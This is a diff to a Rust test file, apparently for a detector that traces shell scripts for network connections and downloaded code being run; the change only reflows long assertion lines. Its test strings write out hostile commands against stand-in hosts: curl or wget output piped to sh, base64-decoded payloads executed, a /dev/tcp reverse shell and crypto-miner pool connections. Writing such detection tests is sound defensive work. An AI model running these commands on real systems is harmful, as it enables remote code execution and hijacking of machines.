@@ -29,7 +29,11 @@ fn encoded_text_that_is_run_is_read() {
         format!("cat <<E | base64 -d | sh\n{inner}\nE\n"),
         format!("P=$(mktemp); echo {inner} | base64 -d > $P && sh $P"),
     ] {
-        assert_eq!(last(&script), "net pool.example.test:3333 stratum+tcp://pool.example.test:3333", "{script}");
+        assert_eq!(
+            last(&script),
+            "net pool.example.test:3333 stratum+tcp://pool.example.test:3333",
+            "{script}"
+        );
     }
 }
 
@@ -82,21 +86,39 @@ fn downloads_are_remembered_until_they_run() {
          run bash <- curl from http://192.0.2.1/x.sh",
     );
     for (script, expected) in [
-        ("curl -sSLo /tmp/a http://192.0.2.1/a; chmod +x /tmp/a; /tmp/a -x", "run /tmp/a -x from http://192.0.2.1/a"),
+        (
+            "curl -sSLo /tmp/a http://192.0.2.1/a; chmod +x /tmp/a; /tmp/a -x",
+            "run /tmp/a -x from http://192.0.2.1/a",
+        ),
         ("wget -q http://192.0.2.1/a && sh a", "run sh a from http://192.0.2.1/a"),
         ("wget -qO- http://192.0.2.1/a | sh", "run sh <- wget from http://192.0.2.1/a"),
         ("wget -O /t http://192.0.2.1/a; mv /t /u; /u", "run /u from http://192.0.2.1/a"),
-        ("bash <(curl -s http://192.0.2.1/a)", "run bash [<(curl -s http://192.0.2.1/a)] from http://192.0.2.1/a"),
-        ("sh -c \"$(curl -fsSL http://192.0.2.1/a)\"", "run sh -c [$(curl -fsSL http://192.0.2.1/a)] from http://192.0.2.1/a"),
-        ("eval \"$(wget -qO- http://192.0.2.1/a)\"", "run eval [$(wget -qO- http://192.0.2.1/a)] <- wget from http://192.0.2.1/a"),
+        (
+            "bash <(curl -s http://192.0.2.1/a)",
+            "run bash [<(curl -s http://192.0.2.1/a)] from http://192.0.2.1/a",
+        ),
+        (
+            "sh -c \"$(curl -fsSL http://192.0.2.1/a)\"",
+            "run sh -c [$(curl -fsSL http://192.0.2.1/a)] from http://192.0.2.1/a",
+        ),
+        (
+            "eval \"$(wget -qO- http://192.0.2.1/a)\"",
+            "run eval [$(wget -qO- http://192.0.2.1/a)] <- wget from http://192.0.2.1/a",
+        ),
         ("curl http://192.0.2.1/a > /a; chmod 755 /a; nohup /a &", "run /a from http://192.0.2.1/a"),
-        ("cd /tmp; curl -O http://192.0.2.1/b.tgz; tar xzf b.tgz; ./b/run", "run ./b/run from http://192.0.2.1/b.tgz"),
+        (
+            "cd /tmp; curl -O http://192.0.2.1/b.tgz; tar xzf b.tgz; ./b/run",
+            "run ./b/run from http://192.0.2.1/b.tgz",
+        ),
         ("curl -s http://192.0.2.1/a | base64 -d | sh", "run sh <- base64 <- curl from http://192.0.2.1/a"),
         ("curl -s http://192.0.2.1/p.py | python3 -", "run python3 - <- curl from http://192.0.2.1/p.py"),
         ("git clone http://192.0.2.1/r.git; cd r; ./go", "run ./go from http://192.0.2.1/r.git"),
         ("X=$(curl -s http://192.0.2.1/a); echo \"$X\" | sh", "run sh <- echo from http://192.0.2.1/a"),
         ("busybox wget -O- http://192.0.2.1/a | busybox sh", "run sh <- busybox from http://192.0.2.1/a"),
-        ("(curl -s http://192.0.2.1/a || wget -qO- http://192.0.2.1/a) | sh", "run sh <- curl <- wget from http://192.0.2.1/a"),
+        (
+            "(curl -s http://192.0.2.1/a || wget -qO- http://192.0.2.1/a) | sh",
+            "run sh <- curl <- wget from http://192.0.2.1/a",
+        ),
     ] {
         assert_eq!(last(script), expected, "{script}");
     }
@@ -104,7 +126,10 @@ fn downloads_are_remembered_until_they_run() {
 
 #[test]
 fn shells_over_the_network_are_connections() {
-    check("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "net 192.0.2.1:4444\nrun bash -i <- /dev/tcp/192.0.2.1/4444");
+    check(
+        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
+        "net 192.0.2.1:4444\nrun bash -i <- /dev/tcp/192.0.2.1/4444",
+    );
 }
 
 #[test]
@@ -118,7 +143,10 @@ fn network_tools_connect() {
         ("curl example.test:8080/x", "net example.test:8080 http://example.test:8080/x"),
         ("telnet 192.0.2.1 23", "net 192.0.2.1:23"),
         ("exec 3<>/dev/tcp/192.0.2.1/80", "net 192.0.2.1:80"),
-        ("miner -o stratum+ssl://pool.example.test:443 -u x", "net pool.example.test:443 stratum+ssl://pool.example.test:443"),
+        (
+            "miner -o stratum+ssl://pool.example.test:443 -u x",
+            "net pool.example.test:443 stratum+ssl://pool.example.test:443",
+        ),
         ("openssl s_client -connect 192.0.2.1:99", "net 192.0.2.1:99"),
     ] {
         assert_eq!(last(script), expected, "{script}");
